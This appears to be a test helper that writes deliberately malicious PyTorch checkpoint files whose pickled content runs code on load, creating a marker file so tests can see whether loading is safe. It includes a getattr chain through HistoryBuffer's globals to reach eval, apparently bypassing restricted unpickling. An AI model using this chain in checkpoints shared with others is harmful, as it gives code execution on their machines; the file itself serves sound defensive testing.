"""Files that run code when they are read as PyTorch reads them: they make a file, so that one sees whether they did."""

import io
import pickle
import tarfile

import torch
from mmengine.logging import HistoryBuffer

KINDS = ('zip', 'legacy', 'tar', 'getattr')


class Calls:
    """Pickled as a call of a function."""

    def __init__(self, function, *args):
        self.call = function, args

    def __reduce__(self):
        return self.call


def calls_open(marker):
    """The call that makes the file ``marker``."""
    return Calls(open, str(marker), 'w')


def only_getattr(marker):
    """The same call, by a pickle that asks for HistoryBuffer, ``getattr`` and a function of PyTorch's own list."""

    def attribute(owner, name):
        return Calls(getattr, owner, name)

    def call(function, kind, *args):
        return Calls(torch._tensor._rebuild_from_type_v2, function, kind, args, {})

    names = attribute(attribute(HistoryBuffer, '__init__'), '__globals__')
    builtins = call(attribute(names, 'get'), attribute(names, '__class__'), '__builtins__')
    get = attribute(builtins, 'get')
    evaluate = call(get, attribute(get, '__class__'), 'eval')
    return call(evaluate, attribute(names, '__class__'), f'open({str(marker)!r}, "w") and dict()')


def write_evil(path, marker, kind='zip', **content):
    """Write a checkpoint that makes the file ``marker``.

    Args:
        path: The checkpoint.
        marker: What it makes.
        kind: PyTorch's format, ``'zip'``, ``'legacy'`` or ``'tar'``; or ``'getattr'``, see :func:`only_getattr`.
        content: What else is in it, but in a tar.
    """
    harm = only_getattr(marker) if kind == 'getattr' else calls_open(marker)
    content = dict(meta={}, state_dict={'weight': torch.zeros(1)}, **content, harm=harm)
    if kind == 'tar':
        with tarfile.open(path, 'w') as archive:
            for name in ('storages', 'tensors', 'pickle'):
                data = pickle.dumps(harm)
                info = tarfile.TarInfo(name)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
    else:
        torch.save(content, path, _use_new_zipfile_serialization=kind != 'legacy')
    return path
